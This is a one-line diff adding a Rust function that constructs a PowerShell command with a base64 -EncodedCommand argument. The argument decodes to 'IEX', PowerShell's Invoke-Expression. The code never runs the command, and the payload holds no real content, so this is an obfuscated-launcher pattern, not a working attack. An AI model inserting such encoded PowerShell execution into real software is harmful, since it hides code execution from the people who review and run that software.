@@ -1,0 +1,1 @@
+fn f() { std::process::Command::new("powershell").args(["-NoProfile", "-EncodedCommand", "SQBFAFgA"]); }
